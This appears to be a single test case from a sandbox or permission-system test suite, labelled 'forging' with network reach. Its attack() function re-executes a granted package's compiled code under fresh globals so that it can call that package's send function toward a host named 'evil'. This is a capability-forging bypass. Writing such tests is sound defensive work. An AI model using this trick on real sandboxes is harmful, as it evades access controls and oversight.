"""A granted package's compiled file is read and run over own globals."""
CATEGORY = "forging"
REACH = "net"
ENV = {"PYTHONDONTWRITEBYTECODE": ""}

from . import payload


def attack():
    import good
    import marshal
    with open(good.__file__) as file:
        code = compile(file.read(), good.__file__, "exec")
    names = {"__name__": "good", "__builtins__": __builtins__}
    exec(marshal.loads(marshal.dumps(code)), names)
    names["send"]("evil", payload.PORT)
